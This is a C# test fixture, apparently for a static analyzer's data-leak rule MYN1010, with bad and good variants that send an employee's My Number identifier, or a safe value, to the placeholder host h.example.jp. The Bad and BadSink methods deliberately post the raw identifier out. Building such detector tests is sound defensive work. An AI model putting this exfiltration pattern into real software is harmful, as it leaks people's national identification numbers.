#pragma warning disable CS0162, CS0649, CS0414
using System;
using System.Net.Http;

namespace Kyuyo.Variants.V08_method_returns_constant;

public sealed class Shain
{
    public string Code { get; set; } = "";
    public string MyNumber { get; set; } = "";
}

public sealed class Variant
{
    private bool ReturnsTrue() => true;

    private bool ReturnsFalse()
    {
        return false;
    }

    public void Bad(Shain s, HttpClient http)
    {
        string data;
        if (ReturnsTrue())
        {
            data = s.MyNumber;
        }
        else
        {
            data = "";
        }

        http.PostAsync("https://h.example.jp", new StringContent(data)); // LEAK MYN1010
    }

    public void GoodSourceElse(Shain s, HttpClient http)
    {
        string data;
        if (ReturnsFalse())
        {
            data = s.MyNumber;
        }
        else
        {
            data = s.Code;
        }

        http.PostAsync("https://h.example.jp", new StringContent(data)); // SAFE the raw branch never runs
    }

    public void GoodSourceThen(Shain s, HttpClient http)
    {
        string data;
        if (ReturnsTrue())
        {
            data = s.Code;
        }
        else
        {
            data = s.MyNumber;
        }

        http.PostAsync("https://h.example.jp", new StringContent(data)); // SAFE the raw branch never runs
    }

    public void GoodSink(Shain s, HttpClient http)
    {
        var data = s.MyNumber;
        if (ReturnsFalse())
        {
            http.PostAsync("https://h.example.jp", new StringContent(data)); // SAFE never runs
        }
        else
        {
            http.PostAsync("https://h.example.jp", new StringContent(data.Length.ToString())); // SAFE a length
        }
    }

    public void BadSink(Shain s, HttpClient http)
    {
        var data = s.MyNumber;
        if (ReturnsTrue())
        {
            http.PostAsync("https://h.example.jp", new StringContent(data)); // LEAK MYN1010
        }
        else
        {
            http.PostAsync("https://h.example.jp", new StringContent(s.Code)); // SAFE
        }
    }
}
